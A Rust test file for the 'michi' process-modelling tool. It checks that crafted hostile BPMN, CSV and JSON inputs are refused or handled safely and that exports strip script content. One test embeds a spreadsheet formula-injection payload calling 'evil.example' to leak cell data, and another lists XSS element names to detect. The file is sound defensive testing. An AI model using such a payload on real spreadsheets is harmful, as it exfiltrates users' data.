//! Hostile files: every file under tests/data/hostile/ (crafted inputs and what the fuzzers found,
//! scripts/fuzz.sh) is read by the reader it targets and either read or refused with the error
//! expected, never a panic. Inputs too big to keep in git are written here: up to 20 MB, each read
//! by the `michi` command under a 1 GB address-space limit (RLIMIT_AS), which must end with its own
//! exit code and message, not killed or aborted. (How long each takes is `npm run bench`'s.)

use std::path::{Path, PathBuf};
use std::process::Command;

use michi_core::{IdGen, Workspace, apply, diagnose};

fn hostile(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/data/hostile").join(rel)
}

/// Every file of a folder of tests/data/hostile, by name.
fn files(folder: &str) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = std::fs::read_dir(hostile(folder)).unwrap().map(|e| e.unwrap().path()).collect();
    v.sort();
    v
}

fn name(p: &Path) -> String {
    p.file_name().unwrap().to_string_lossy().into_owned()
}

/// What a hostile file must give: read, or refused with an error saying this.
enum Expect {
    Read,
    Refused(&'static str),
}

/// The BPMN files: refused as expected, or read into a workspace whose geometry is all finite and
/// which diagnoses and exports.
#[test]
fn hostile_bpmn_files_are_read_or_refused_as_expected() {
    let expected = |name: &str| match name {
        "billion-laughs.bpmn" | "external-entity.bpmn" => Expect::Refused("DTD"),
        "utf16-truncated.bpmn" => Expect::Refused("malformed"),
        "mixed-encoding.bpmn" => Expect::Refused("Shift_JIS"),
        _ => Expect::Read,
    };
    let all = files("bpmn");
    assert!(all.len() >= 6, "the crafted files are there: {all:?}");
    for file in all {
        let name = name(&file);
        let read = michi_app::bpmn::read_bpmn(&file, &mut IdGen::sequential());
        match (expected(&name), read) {
            (Expect::Refused(what), Err(e)) => assert!(e.message.contains(what), "{name}: {}", e.message),
            (Expect::Refused(what), Ok(_)) => panic!("{name} was read, expected refused ({what})"),
            (Expect::Read, Err(e)) => panic!("{name} was refused: {}", e.message),
            (Expect::Read, Ok(read)) => {
                let ws = read.workspace;
                assert_finite(&ws, &name);
                let _ = diagnose::diagnosis(&ws);
                let models: Vec<_> =
                    ws.elements_of_kind(michi_core::ElementKind::ProcessModel).map(|e| e.id.clone()).collect();
                let xml = michi_bpmn::export(&ws, &models).unwrap();
                let mut again = Workspace::new();
                let back = michi_bpmn::import(xml.as_bytes(), &again, &mut IdGen::sequential(), &Default::default());
                apply(&mut again, back.unwrap_or_else(|e| panic!("{name}: Michi's export refused: {e}")).op).unwrap();
            }
        }
    }
}

/// Every placement and waypoint of every view is a finite number.
fn assert_finite(ws: &Workspace, name: &str) {
    for view in ws.views() {
        for p in view.placements.values() {
            let waypoints = p.extra.iter().flat_map(|e| e.waypoints.iter()).flat_map(|w| [w.x, w.y]);
            assert!([p.x, p.y, p.width, p.height].into_iter().chain(waypoints).all(f64::is_finite), "{name}: {p:?}");
        }
    }
}

#[test]
fn hostile_csv_files_are_read_or_refused_as_expected() {
    let expected = |name: &str| match name {
        "invalid-encoding.csv" => Expect::Refused("neither UTF-8 nor Shift_JIS"),
        _ => Expect::Read,
    };
    let ws = michi_core::sample::sample();
    let model = ws.elements_of_kind(michi_core::ElementKind::ProcessModel).next().unwrap().id.clone();
    for file in files("csv") {
        let name = name(&file);
        match (expected(&name), michi_app::tables::read_table(&file)) {
            (Expect::Refused(what), Err(e)) => assert!(e.message.contains(what), "{name}: {}", e.message),
            (Expect::Refused(what), Ok(_)) => panic!("{name} was read, expected refused ({what})"),
            (Expect::Read, Err(e)) => panic!("{name} was refused: {}", e.message),
            (Expect::Read, Ok(table)) => {
                let p = michi_csv::preview(&table);
                if let Some(m) = p.guess {
                    let _ = michi_csv::snapshot(&table, &m, &ws, &model, "x".into(), "x.csv".into(), None);
                }
            }
        }
    }
}

/// Settings and journey documents: refused, saying what is wrong (a nesting 10,000 deep stops at
/// the first level the format does not allow, or at serde_json's recursion limit).
#[test]
fn hostile_json_files_are_refused_with_what_is_wrong() {
    let expected = |name: &str| match name {
        "unknown-rule.michi-lint.json" => "no-such-rule",
        "deep.michi-lint.json" => "unknown variant `rules`",
        "deep.journey.json" => "recursion limit exceeded",
        _ => panic!("{name}: no expectation"),
    };
    for file in files("json") {
        let name = name(&file);
        let message = if name.ends_with(".michi-lint.json") {
            michi_app::lint::read_config(&file).expect_err(&name).message
        } else {
            michi_core::sample::load(&std::fs::read_to_string(&file).unwrap()).expect_err(&name).to_string()
        };
        assert!(message.contains(expected(&name)), "{name}: {message}");
    }
}

// ---- Big inputs (tests/support/big.rs), read by the CLI under a 1 GB address-space limit ----

#[path = "support/big.rs"]
mod big;

/// Every big input — BPMN files of 20 MB (a 19 MB attribute, 200,000 attributes on one element,
/// elements at the limits of attributes and of namespaces, and past them,
/// sub-processes nested 100,000 deep, 300,000 tasks and flows), CSV files (a million columns, a
/// 19 MB cell, a million rows), 20 MB of diagnosis settings, and workspace files (crafted rows, a
/// 19 MB value, a real model of about 13,700 elements) — is read or refused as expected by a
/// `michi` limited to 1 GB, which ends by itself (exit 0, 1 for findings, 2 refused): not killed,
/// aborted or panicking.
#[test]
fn big_inputs_are_read_or_refused_within_a_gigabyte() {
    let dir = tempfile::tempdir().unwrap();
    let inputs = big::write_all(dir.path());
    assert_eq!(inputs.len(), 18);
    for input in inputs {
        let out = big::michi_limited(&input.args).output().unwrap();
        if let Some(wrong) = input.wrong(&out) {
            panic!("{}: {wrong}", input.name);
        }
    }
}

/// Names holding HTML that would run script (tests/data/hostile/bpmn/script-labels.bpmn, the file
/// e2e 21 imports into the app) are text in the SVG picture and the BPMN export: read back as XML,
/// neither holds a script, img, iframe or foreignObject element, a nested svg or an `on…`
/// attribute, and both say the names.
#[test]
fn script_labels_are_text_in_pictures_and_exports() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws.michi");
    let run = |args: &[&std::ffi::OsStr]| {
        let out = Command::new(env!("CARGO_BIN_EXE_michi")).args(args).output().unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    };
    let labels = hostile("bpmn/script-labels.bpmn");
    run(&["import".as_ref(), labels.as_os_str(), "-o".as_ref(), ws.as_os_str()]);
    let svg = dir.path().join("out.svg");
    let bpmn = dir.path().join("out.bpmn");
    run(&["picture".as_ref(), ws.as_os_str(), "-o".as_ref(), svg.as_os_str()]);
    run(&["export".as_ref(), ws.as_os_str(), "-o".as_ref(), bpmn.as_os_str()]);
    for file in [svg, bpmn] {
        let text = std::fs::read_to_string(&file).unwrap();
        let doc = roxmltree::Document::parse(&text).unwrap_or_else(|e| panic!("{}: {e}", name(&file)));
        for n in doc.descendants().filter(|n| n.is_element()) {
            let tag = n.tag_name().name().to_lowercase();
            assert!(!["script", "img", "iframe", "foreignobject"].contains(&tag.as_str()), "{}: <{tag}>", name(&file));
            assert!(n.attributes().all(|a| !a.name().to_lowercase().starts_with("on")), "{}: {n:?}", name(&file));
        }
        assert!(doc.descendants().filter(|n| n.has_tag_name("svg")).count() <= 1, "{}: a nested <svg>", name(&file));
        // The names are there as text (in the picture, wrapped lines joined; in the BPMN, attributes).
        let said: String = doc
            .descendants()
            .flat_map(|n| n.text().map(str::to_string).into_iter().chain(n.attributes().map(|a| a.value().to_string())))
            .collect();
        for label in ["<script>", "<img", "<iframe", "<svg"] {
            assert!(said.contains(label), "{}: {label} is not shown", name(&file));
        }
    }
}

/// An export on a full disk (the `michi` command's files may not grow past 4 KB: RLIMIT_FSIZE,
/// SIGXFSZ ignored, so the write fails with EFBIG as on a full disk) fails saying it could not
/// write the file, and leaves neither the file nor its `.partial` behind.
#[test]
fn an_export_on_a_full_disk_leaves_no_file_behind() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws.michi");
    assert!(Command::new(env!("CARGO_BIN_EXE_michi")).args(["new", "--sample"]).arg(&ws).status().unwrap().success());
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    let exports: [(&str, Vec<&std::ffi::OsStr>); 2] = [
        ("model.bpmn", vec!["export".as_ref(), ws.as_os_str(), "-o".as_ref()]),
        ("picture.svg", vec!["picture".as_ref(), ws.as_os_str(), "-o".as_ref()]),
    ];
    for (file, args) in exports {
        let target = out.join(file);
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_michi"));
        let result = big::limited(cmd.args(args).arg(&target), libc::RLIMIT_FSIZE, 4096).output().unwrap();
        let stderr = String::from_utf8_lossy(&result.stderr);
        assert_eq!(result.status.code(), Some(2), "{file}: {stderr}");
        assert!(stderr.contains(&format!("cannot write {}", target.display())), "{file}: {stderr}");
        let left: Vec<_> = std::fs::read_dir(&out).unwrap().map(|e| e.unwrap().file_name()).collect();
        assert!(left.is_empty(), "{file}: left behind {left:?}");
        // Without the limit the same export is written.
        let written = Command::new(env!("CARGO_BIN_EXE_michi")).args(cmd.get_args()).output().unwrap();
        assert!(written.status.success() && std::fs::metadata(&target).unwrap().len() > 4096, "{file}");
        std::fs::remove_file(&target).unwrap();
    }
}

/// A company named like a formula in an accounts file comes out of `michi health` as text a
/// spreadsheet shows, not a formula it runs; a negative number stays a number.
#[test]
fn exported_csv_cells_cannot_run_as_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws.michi");
    assert!(Command::new(env!("CARGO_BIN_EXE_michi")).args(["new", "--sample"]).arg(&ws).status().unwrap().success());
    let sample = include_str!("../../michi-core/samples/accounts-2026-11.csv");
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")";
    let accounts = dir.path().join("accounts.csv");
    std::fs::write(&accounts, sample.replacen("山田製作所", &format!("\"{}\"", evil.replace('"', "\"\"")), 1)).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_michi"))
        .args(["health", "--as-of", "2026-11-30", "--lang", "ja", "--accounts"])
        .arg(&accounts)
        .arg(&ws)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let csv = String::from_utf8(out.stdout).unwrap();
    let row = csv.lines().find(|l| l.starts_with("C-1001")).unwrap();
    assert!(row.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"詳細\"\")\""), "{row}");
    // No cell of any row begins with a formula's first character unless it is a number.
    for line in csv.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_matches('"');
            if cell.starts_with(['=', '+', '-', '@']) {
                assert!(cell.parse::<f64>().is_ok(), "a formula cell: {cell} in {line}");
            }
        }
    }
}
